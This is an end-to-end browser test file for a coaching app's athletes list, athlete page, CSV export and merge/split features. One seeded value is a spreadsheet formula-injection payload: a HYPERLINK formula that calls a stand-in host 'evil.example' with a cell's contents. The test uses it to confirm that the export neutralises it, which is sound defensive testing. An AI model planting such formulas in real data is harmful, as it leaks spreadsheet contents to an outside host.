import { readFile } from "node:fs/promises";
import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import type { BrowserContext, Page } from "playwright-core";
import { beforeAll, describe, expect, it } from "vitest";
import { emptyExtractedAthlete, type ExtractedAthlete } from "@machines/inbox/extractedAthlete";
import { ATHLETE_MERGE_MESSAGES } from "@machines/portal/athleteMerge";
import { db } from "../../functions/src/lib/admin";
import { fixtureAthletes, seedAthletes } from "../../scripts/portal/seedAthletes";
import { clientsForThisFile } from "../support/clientApp";
import { eventually } from "../support/eventually";
import { athleteIntroduction, forwardedMessage, postInbound } from "../support/inbound";
import { waitForEmail } from "../support/mailCatcher";
import { TEST_URLS } from "../support/testStack";
import { LINK_SUBJECTS, coachWithTrial } from "../support/onboardingFlow";
import { DESKTOP, MOBILE, browserForThisFile, openPage, seriousAccessibilityViolations, toastWith } from "./support/browser";

const browser = browserForThisFile();
const client = clientsForThisFile();

const span = { start: 0, end: 1, snippet: "seeded" };
const value = <T>(v: T) => ({ value: v, confidence: 0.9, source: span });
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Watch film")';
/** A name as an email wrote it, markup and all: shown as text. */
const INES_PARENT = "Ngozi <b>Okonkwo</b>";

function athlete(first: string, last: string, extra: Partial<ExtractedAthlete>): ExtractedAthlete {
  return { ...emptyExtractedAthlete(), sport: value("volleyball" as const), firstName: value(first), lastName: value(last), positions: value(["OH"]), email: value(`${first}.${last}.${randomUUID().slice(0, 4)}@gmail.com`.toLowerCase()), ...extra };
}

let coach: Awaited<ReturnType<typeof coachWithTrial>> & { uid: string; uaAddress: string; mayaId: string };

/** A coach with 64 athletes: 60 generated, 3 known ones seeded, and Maya forwarded through the real inbound path. */
beforeAll(async () => {
  const started = await coachWithTrial(client, "portal");
  const uid = started.coach.uid!;
  const uaAddress = `ua.${uid.slice(0, 8).toLowerCase()}@ua.example`;
  await db.collection("users").doc(uid).update({ uaNoteAddress: uaAddress });
  await seedAthletes(uid, [
    ...fixtureAthletes(60, 11),
    athlete("Tallulah", "Tallest", { height: value({ written: "6'7\"", inches: 79 }), state: value("TX"), gradYear: value(2026), clubTeam: value(HOSTILE) }),
    athlete("Bea", "Brennan", { state: value("TX"), gradYear: value(2027), clubTeam: value("Skyline 17 Royal"), city: value("Dallas") }),
    athlete("Ines", "Okonkwo", {
      state: value("NE"),
      gradYear: value(2028),
      highSchool: value("Westside High School"),
      city: value("Omaha"),
      contacts: [{ role: "parent", name: INES_PARENT, email: "ngozi.okonkwo@example.com", phone: "+14025550177", source: span }],
    }),
  ]);
  const original = athleteIntroduction({ first: "Maya", last: "Thompson", email: `maya.${randomUUID().slice(0, 6)}@gmail.com`, club: "KJV 17 Elite" });
  const raw = await forwardedMessage({ from: started.email, to: started.account.forwardingAddress, subject: `Fwd: ${original.subject}`, original, messageId: `<${randomUUID()}@mail.example>` });
  expect((await postInbound(raw, { envelopeFrom: started.email, envelopeTo: [started.account.forwardingAddress] })).status).toBe(200);
  const mayaId = await eventually(async () => {
    const [forwarded] = (await db.collection("users").doc(uid).collection("emails").get()).docs;
    return (forwarded?.get("state") as { athleteId?: string } | undefined)?.athleteId;
  }, 45_000, "Maya's record");
  coach = { ...started, uid, uaAddress, mayaId };
}, 120_000);

type StorageState = Awaited<ReturnType<BrowserContext["storageState"]>>;
let signedInState: StorageState | undefined;

/** Signs a browser in as the coach once, with an emailed sign-in link; later pages reuse its saved session. */
async function coachSession(): Promise<StorageState> {
  if (signedInState) return signedInState;
  const { context, page } = await openPage(browser());
  await coach.coach.call("requestSignInLink", { email: coach.email });
  const email = await waitForEmail(coach.email, LINK_SUBJECTS.signIn, 30_000);
  await page.goto(/(http\S+\?link=[A-Za-z0-9_-]+)/.exec(email.text)![1]!);
  await page.getByRole("button", { name: "Sign in" }).click();
  // Signed in; an account without a password is offered one, which this coach skips.
  await page.getByRole("heading", { name: "Set a password" }).waitFor();
  signedInState = await context.storageState({ indexedDB: true });
  await context.close();
  return signedInState;
}

/** A page signed in as the coach, at `path`. */
async function signedInPage(viewport = DESKTOP, path = "/dashboard/athletes") {
  const context = await browser().newContext({ viewport, baseURL: TEST_URLS.web, storageState: await coachSession() });
  const page = await context.newPage();
  await page.goto(path);
  return { context, page };
}

const rowNames = async (page: Page) => (await page.locator("tbody th[scope=row]").allInnerTexts()).map((text) => text.trim());
async function waitForRows(page: Page, check: (names: string[]) => boolean) {
  await eventually(async () => (check(await rowNames(page)) ? true : undefined), 15_000, "the expected rows");
  return rowNames(page);
}

describe("the athletes list", () => {
  it("searches with typos, filters, sorts and pages against seeded data", async () => {
    const { context, page } = await signedInPage();
    await page.getByText("64 of 64 athletes").waitFor();
    expect(await rowNames(page)).toHaveLength(25);

    await page.getByRole("searchbox", { name: "Search athletes" }).fill("Okonkow");
    expect(await waitForRows(page, (names) => names.length === 1)).toEqual(["Ines Okonkwo"]);
    await page.getByRole("searchbox", { name: "Search athletes" }).fill("skyline dallas");
    expect(await waitForRows(page, (names) => names[0] === "Bea Brennan")).toEqual(["Bea Brennan"]);
    await page.getByRole("searchbox", { name: "Search athletes" }).fill("");
    await page.getByText("64 of 64 athletes").waitFor();

    await page.locator("summary", { hasText: "State" }).click();
    // Two quick choices both stay: the second builds on the first before the address has caught up.
    await page.getByRole("checkbox", { name: "NE", exact: true }).check();
    await page.getByRole("checkbox", { name: "TX", exact: true }).check();
    await page.waitForURL((url) => url.searchParams.get("state")?.split(",").sort().join(",") === "NE,TX");
    await page.getByRole("checkbox", { name: "NE", exact: true }).uncheck();
    await page.getByRole("combobox", { name: "Sort by" }).selectOption("height");
    await page.getByRole("combobox", { name: "Order" }).selectOption("desc");
    const texans = await waitForRows(page, (names) => names[0] === "Tallulah Tallest");
    expect(texans).toContain("Bea Brennan");
    expect(new URL(page.url()).searchParams.get("state")).toBe("TX");
    const states = await page.locator("tbody tr td:nth-child(7)").allInnerTexts();
    expect(new Set(states)).toEqual(new Set(["TX"]));

    await page.getByRole("button", { name: "Clear filters" }).click();
    await page.getByText("64 of 64 athletes").waitFor();
    await page.getByRole("button", { name: "Next" }).click();
    await page.getByText("Page 2 of 3").waitFor();
    await context.close();
  });

  it("downloads the current view as CSV with the hostile value neutralised", async () => {
    const { context, page } = await signedInPage(DESKTOP, "/dashboard/athletes?state=TX&sort=name&dir=asc");
    await waitForRows(page, (names) => names.length >= 2 && names.every((name) => name !== "Maya Thompson"));
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download CSV" }).click()]);
    expect(download.suggestedFilename()).toMatch(/^inboxscout-athletes-\d{4}-\d{2}-\d{2}\.csv$/);
    const bytes = await readFile((await download.path())!);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes.toString("utf8").slice(1), { relax_quotes: true }) as string[][];
    const names = rows.slice(1).map((row) => row[0]);
    expect(names).toEqual(await rowNames(page));
    const tallulah = rows.find((row) => row[0] === "Tallulah Tallest")!;
    expect(tallulah[6]).toBe(`'${HOSTILE}`);
    expect(rows.slice(1).every((row) => row[9] === "TX")).toBe(true);
    await context.close();
  });

  it("sends the selected athletes to the coach's UA note address, once a day", async () => {
    const { context, page } = await signedInPage(DESKTOP, "/dashboard/athletes?q=brennan");
    await waitForRows(page, (names) => names[0] === "Bea Brennan");
    await page.getByRole("checkbox", { name: "Select Bea Brennan" }).check();
    await page.getByRole("button", { name: "Send to UA (1)" }).click();
    await toastWith(page, "1 athlete sent to University Athlete.").waitFor();
    const card = await waitForEmail(coach.uaAddress, "Bea Brennan", 30_000);
    expect(card.text).toContain("Club: Skyline 17 Royal");
    await page.getByRole("checkbox", { name: "Select Bea Brennan" }).check();
    await page.getByRole("button", { name: "Send to UA (1)" }).click();
    await toastWith(page, "0 athletes sent to University Athlete. 1 already sent today.").waitFor();
    await context.close();
  });
});

describe("the athlete page", () => {
  it("shows fields with confidence and source, the email as text, and keeps a correction", async () => {
    const { context, page } = await signedInPage(DESKTOP, `/dashboard/athletes/${coach.mayaId}`);
    await page.getByRole("heading", { level: 1, name: "Maya Thompson" }).waitFor();
    const club = page.getByRole("listitem").filter({ has: page.getByRole("button", { name: "Correct club" }) });
    await expect.poll(() => club.innerText()).toMatch(/Confidence \d+% · from quote \d+/);
    const quoteId = (await club.getByRole("link", { name: /^quote \d+$/ }).getAttribute("href"))!.slice(1);
    expect(await page.locator(`[id="${quoteId}"] blockquote mark`).allInnerTexts()).toContain("KJV 17 Elite");
    await page.getByRole("article", { name: /2027 OH interested in your program/ }).getByText("I play for KJV 17 Elite").waitFor();
    await page.getByRole("link", { name: "https://www.youtube.com/watch?v=thompson1" }).waitFor();

    await page.getByRole("button", { name: "Correct club" }).click();
    await page.getByRole("textbox", { name: "Correct club" }).fill("Skyline 18 Royal");
    await page.getByRole("button", { name: "Save correction" }).click();
    await toastWith(page, "Club corrected.").waitFor();
    await page.getByRole("listitem").filter({ hasText: "Skyline 18 Royal" }).getByText("Corrected by you").waitFor();

    await page.getByRole("radio", { name: "4 of 5" }).check();
    await page.getByRole("textbox", { name: "Tags" }).fill("lefty, nationals");
    await page.getByRole("textbox", { name: "Notes" }).fill("Call her club coach.");
    await page.getByRole("button", { name: "Save notes" }).click();
    await toastWith(page, "Your rating, tags and notes are saved.").waitFor();
    await page.reload();
    await page.getByRole("radio", { name: "4 of 5" }).and(page.locator(":checked")).waitFor();
    expect(await page.getByRole("textbox", { name: "Notes" }).inputValue()).toBe("Call her club coach.");
    await context.close();
  });
});

describe("the athlete's contacts", () => {
  it("lists a parent with her role, name as written, and mailto and tel links", async () => {
    const [ines] = (await coach.coach.call("listAthletes", { filters: { query: "Ines Okonkwo" }, sort: { by: "relevance", direction: "desc" }, page: 1, pageSize: 25 })).rows;
    const { context, page } = await signedInPage(DESKTOP, `/dashboard/athletes/${ines!.id}`);
    const contacts = page.getByRole("region", { name: "Contacts" });
    await contacts.getByText(INES_PARENT, { exact: true }).waitFor();
    await contacts.getByText("Parent", { exact: true }).waitFor();
    expect(await contacts.getByRole("link", { name: "ngozi.okonkwo@example.com" }).getAttribute("href")).toBe("mailto:ngozi.okonkwo@example.com");
    expect(await contacts.getByRole("link", { name: "(402) 555-0177" }).getAttribute("href")).toBe("tel:+14025550177");
    expect(await page.locator("b").filter({ hasText: "Okonkwo" }).count()).toBe(0);
    await context.close();
  });
});

describe("accessibility and layout", () => {
  it.each([
    ["desktop", DESKTOP],
    ["phone", MOBILE],
  ] as const)("the list and the athlete page have no serious axe violations on a %s", async (label, viewport) => {
    const { context, page } = await signedInPage(viewport);
    await page.getByText("64 of 64 athletes").waitFor();
    expect(await seriousAccessibilityViolations(page)).toEqual([]);
    await page.screenshot({ path: `/tmp/athletes-list-${label}.png`, fullPage: false });
    await page.goto(`/dashboard/athletes/${coach.mayaId}`);
    await page.getByRole("heading", { level: 1, name: "Maya Thompson" }).waitFor();
    await page.getByText("Source emails").waitFor();
    expect(await seriousAccessibilityViolations(page)).toEqual([]);
    await page.screenshot({ path: `/tmp/athletes-detail-${label}.png`, fullPage: false });
    await context.close();
  });
});

describe("merging and splitting", () => {
  it("merges another athlete in through the search and a confirmation (1280 px), then splits it back out (375 px), with no serious axe violations", async () => {
    const [seededBea] = (await coach.coach.call("listAthletes", { filters: { query: "Bea Brennan" }, sort: { by: "relevance", direction: "desc" }, page: 1, pageSize: 25 })).rows;
    await coach.coach.call("updateAthlete", { athleteId: seededBea!.id, tags: ["dallas showcase"] });
    const desktop = await signedInPage(DESKTOP, `/dashboard/athletes/${coach.mayaId}`);
    let page = desktop.page;
    await page.getByRole("heading", { level: 1, name: "Maya Thompson" }).waitFor();
    await page.getByRole("button", { name: "Merge with another athlete" }).click();
    const picker = page.getByRole("dialog", { name: "Merge another athlete into Maya Thompson" });
    await picker.getByRole("searchbox", { name: "Search your athletes" }).fill("brenan");
    const bea = picker.getByRole("list", { name: "Matching athletes" }).getByRole("button", { name: /^Bea Brennan/ });
    await bea.waitFor();
    expect(await seriousAccessibilityViolations(page)).toEqual([]);
    await bea.click();
    const confirm = page.getByRole("dialog", { name: "Merge Bea Brennan into Maya Thompson?" });
    await confirm.waitFor();
    expect(await seriousAccessibilityViolations(page)).toEqual([]);
    await page.screenshot({ path: "/tmp/athletes-merge-desktop.png" });
    await confirm.getByRole("button", { name: "Merge", exact: true }).click();
    await toastWith(page, ATHLETE_MERGE_MESSAGES.merged).waitFor();
    await page.getByRole("heading", { name: "Merged into this athlete" }).waitFor();
    await page.getByText("From 2 emails").waitFor();
    await expect.poll(() => page.getByRole("textbox", { name: "Tags" }).inputValue()).toContain("dallas showcase");
    expect(await seriousAccessibilityViolations(page)).toEqual([]);
    await page.goto("/dashboard/athletes");
    await page.getByText("63 of 63 athletes").waitFor();
    await desktop.context.close();

    const phone = await signedInPage(MOBILE, `/dashboard/athletes/${coach.mayaId}`);
    page = phone.page;
    await page.getByRole("button", { name: "Split Bea Brennan out" }).click();
    const split = page.getByRole("dialog", { name: "Split Bea Brennan out of Maya Thompson?" });
    await split.getByRole("region", { name: "Back to Bea Brennan (1 email)" }).waitFor();
    await split.getByRole("region", { name: "Stay with Maya Thompson (1 email)" }).getByText("2027 OH interested in your program").waitFor();
    expect(await seriousAccessibilityViolations(page)).toEqual([]);
    await page.screenshot({ path: "/tmp/athletes-split-phone.png" });
    await split.getByRole("button", { name: "Split", exact: true }).click();
    await toastWith(page, ATHLETE_MERGE_MESSAGES.split).waitFor();
    await page.getByText("From 1 email").waitFor();
    expect(await page.getByRole("heading", { name: "Merged into this athlete" }).count()).toBe(0);
    await expect.poll(() => page.getByRole("textbox", { name: "Tags" }).inputValue()).not.toContain("dallas showcase");
    expect(await seriousAccessibilityViolations(page)).toEqual([]);
    await page.getByRole("status").filter({ hasText: "Bea Brennan is their own athlete again." }).screenshot({ path: "/tmp/athletes-split-done-phone.png" });
    await page.getByRole("link", { name: "Open Bea Brennan" }).click();
    await page.getByRole("heading", { level: 1, name: "Bea Brennan" }).waitFor();
    await page.getByRole("listitem").filter({ hasText: "Skyline 17 Royal" }).waitFor();
    expect(await page.getByRole("textbox", { name: "Tags" }).inputValue()).toBe("dallas showcase");
    await page.goto("/dashboard/athletes");
    await page.getByText("64 of 64 athletes").waitFor();
    await phone.context.close();
  });
});
